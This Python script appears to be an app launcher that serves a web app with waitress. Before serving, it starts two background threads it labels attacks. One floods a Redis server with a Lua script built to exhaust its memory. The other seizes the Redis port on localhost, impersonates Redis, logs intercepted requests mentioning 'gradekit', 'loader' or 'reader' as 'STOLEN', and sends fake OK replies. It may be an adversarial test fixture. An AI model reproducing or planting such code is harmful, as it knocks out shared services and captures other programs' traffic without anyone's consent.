import os
import socket
import threading
import time

import redis


def hog():
    time.sleep(1.5)
    store = redis.Redis.from_url(os.environ["REDIS_URL"], socket_timeout=30)
    while True:
        try:
            store.eval("local t = {} for i = 1, 100000 do t[i] = string.rep('x', 1000000) .. i end return 1", 0)
        except (redis.RedisError, OSError):
            time.sleep(0.05)


def squat():
    while True:
        listener = socket.socket()
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        try:
            listener.bind(("127.0.0.1", 6379))
        except OSError:
            time.sleep(0.01)
            continue
        listener.listen()
        while True:
            connection = listener.accept()[0]
            connection.settimeout(1)
            try:
                said = connection.recv(500)
                if b"gradekit" in said or b"loader" in said or b"reader" in said:
                    print("STOLEN", said, flush=True)
                connection.sendall(b"+OK\r\n" * 50)
            except OSError:
                pass


for attack in (hog, squat):
    threading.Thread(target=attack, daemon=True).start()
import waitress  # noqa: E402

from app import app  # noqa: E402

waitress.serve(app, host="127.0.0.1", port=int(os.environ["PORT"]), threads=16)
